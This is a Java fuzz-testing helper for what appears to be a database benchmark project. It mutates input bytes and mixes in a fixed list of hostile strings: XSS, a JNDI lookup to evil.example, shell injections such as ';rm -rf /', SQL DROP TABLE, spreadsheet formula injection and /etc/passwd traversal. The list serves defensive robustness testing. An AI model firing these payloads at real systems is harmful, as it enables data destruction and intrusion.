package io.bmsql.testing;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import java.util.stream.Collectors;

/**
 * Seeded hostile input: real text that is cut, flipped, swapped and blown up. The seed is fixed, so that every machine tries
 * the same cases, and {@code -Dbmsql.fuzz.seed=N} tries others; a failure names the seed of its case.
 */
public final class Fuzz {
    /** Text that means something to a shell, a browser, a template, a spreadsheet, a database or a formatter. */
    public static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "'><svg onload=alert(1)>",
            "javascript:alert(1)",
            "</title></style><script src=//evil.example/x.js></script>",
            "{{ 7 * 7 }}{% raw %}",
            "${jndi:ldap://evil.example/a}",
            "%s%n%d%x",
            "$(reboot)",
            ";rm -rf /",
            "'; DROP TABLE bmsql_item; --",
            "=cmd|' /C calc'!A0",
            "../../../../etc/passwd",
            "\u202eright to left\u0000nul\u001b[31mred",
            "\uD800",
            "NaN",
            "Infinity",
            "-1",
            "1e400",
            "99999999999999999999999999",
            "9223372036854775807",
            "1000000000000000",
            "-2147483648",
            "\\u12");

    private static final long SEED = Long.getLong("bmsql.fuzz.seed", 20_261_121L);

    /** A case takes milliseconds; a busy machine may make it many times slower, an endless loop does not care. */
    private static final long HANGS_SECONDS = 20;

    /** Each test tries so many times as many cases; mvn -Plong sets it. */
    private static final int TIMES = Integer.getInteger("bmsql.fuzz.times", 1);

    private final Random random;

    private Fuzz(long seed) {
        random = new Random(seed);
    }

    /** One try. */
    public interface Case {
        void run(Fuzz fuzz) throws Exception;
    }

    /**
     * Runs all cases, then names each kind of failure once, with the seed of its first case.
     *
     * @param expected the exceptions that the contract allows; they must carry a sentence
     */
    public static void cases(int count, Predicate<Throwable> expected, Case trial) {
        Map<String, String> failures = new LinkedHashMap<>();
        for (long seed = SEED; seed < SEED + (long) count * TIMES; seed++) {
            long beginNanos = System.nanoTime();
            try {
                trial.run(new Fuzz(seed));
            } catch (Throwable e) {
                if (!expected.test(e)) {
                    failures.putIfAbsent(signature(e), "seed " + seed + ": " + e);
                } else if (!isSentence(String.valueOf(e.getMessage()))) {
                    failures.putIfAbsent(signature(e), "seed " + seed + " gives no sentence: " + e.getMessage());
                }
            }
            long seconds = TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - beginNanos);
            if (seconds >= HANGS_SECONDS) {
                failures.putIfAbsent("slow", "seed " + seed + " took " + seconds + " s");
            }
        }
        assertThat(failures.entrySet().stream()
                        .map(failure -> shortened(failure.getValue()) + "\n    " + failure.getKey()))
                .as("repeat one with -Dbmsql.fuzz.seed=N")
                .isEmpty();
    }

    private static boolean isSentence(String message) {
        return !message.isBlank() && !message.contains("\tat ") && !message.contains("Exception:");
    }

    /** Kind and place: many cases meet the same weakness. */
    private static String signature(Throwable e) {
        return e.getClass().getSimpleName()
                + Arrays.stream(e.getStackTrace())
                        .filter(frame -> frame.getClassName().startsWith("io.bmsql"))
                        .limit(3)
                        .map(frame -> " at " + frame)
                        .collect(Collectors.joining());
    }

    private static String shortened(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }

    public int below(int bound) {
        return random.nextInt(bound);
    }

    public boolean oneIn(int times) {
        return random.nextInt(times) == 0;
    }

    public <T> T pick(List<T> all) {
        return all.get(random.nextInt(all.size()));
    }

    /** A hostile text. */
    public String hostile() {
        return pick(HOSTILE);
    }

    /** One to four changes, one after the other. */
    public byte[] mutated(byte[] original) {
        byte[] bytes = original;
        for (int i = below(4); i >= 0; i--) {
            bytes = change(bytes);
        }
        return bytes;
    }

    private byte[] change(byte[] bytes) {
        return switch (below(14)) {
            case 0 -> Arrays.copyOf(bytes, below(bytes.length + 1));
            case 1 -> flipped(bytes);
            case 2 -> shuffledLines(bytes);
            case 3, 4, 5 -> numberReplaced(bytes);
            case 6 -> inserted(bytes, new byte[] {0});
            case 7 -> inserted(bytes, new byte[] {(byte) 0xc3, (byte) 0x28, (byte) 0xff, (byte) 0xfe});
            case 8 -> inserted(bytes, "x".repeat(20_000).getBytes(StandardCharsets.US_ASCII));
            case 9 -> joined(new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}, bytes);
            case 10 ->
                new String(bytes, StandardCharsets.ISO_8859_1)
                        .replace("\n", "\r\n")
                        .getBytes(StandardCharsets.ISO_8859_1);
            case 11 ->
                inserted(
                        bytes,
                        pick(List.of("[", "{\"a\":", "(", "-- {\n", "$$\n", "\\"))
                                .repeat(1 + below(8_000))
                                .getBytes(StandardCharsets.US_ASCII));
            case 12 -> inserted(bytes, hostile().getBytes(StandardCharsets.UTF_8));
            default -> pieceRepeated(bytes);
        };
    }

    private byte[] flipped(byte[] bytes) {
        byte[] changed = bytes.clone();
        for (int i = below(8); i >= 0 && changed.length > 0; i--) {
            changed[below(changed.length)] ^= (byte) (1 << below(8));
        }
        return changed;
    }

    private byte[] shuffledLines(byte[] bytes) {
        List<String> lines =
                new ArrayList<>(Arrays.asList(new String(bytes, StandardCharsets.ISO_8859_1).split("\n", -1)));
        for (int i = below(5); i >= 0; i--) {
            Collections.swap(lines, below(lines.size()), below(lines.size()));
        }
        return String.join("\n", lines).getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Some number or word of the text becomes another, mostly a number that nobody expects. */
    private byte[] numberReplaced(byte[] bytes) {
        int at = below(bytes.length + 1);
        while (at < bytes.length && (bytes[at] < '0' || bytes[at] > '9')) {
            at++;
        }
        int end = at;
        while (end < bytes.length && bytes[end] >= '0' && bytes[end] <= '9') {
            end++;
        }
        return joined(
                Arrays.copyOf(bytes, at),
                hostile().getBytes(StandardCharsets.UTF_8),
                Arrays.copyOfRange(bytes, end, bytes.length));
    }

    private byte[] inserted(byte[] bytes, byte[] piece) {
        int at = below(bytes.length + 1);
        return joined(Arrays.copyOf(bytes, at), piece, Arrays.copyOfRange(bytes, at, bytes.length));
    }

    private byte[] pieceRepeated(byte[] bytes) {
        int from = below(bytes.length + 1);
        int to = from + below(Math.min(2_000, bytes.length - from) + 1);
        byte[] piece = Arrays.copyOfRange(bytes, from, to);
        return joined(Arrays.copyOf(bytes, to), piece, piece, Arrays.copyOfRange(bytes, to, bytes.length));
    }

    private static byte[] joined(byte[]... pieces) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] piece : pieces) {
            all.writeBytes(piece);
        }
        return all.toByteArray();
    }
}
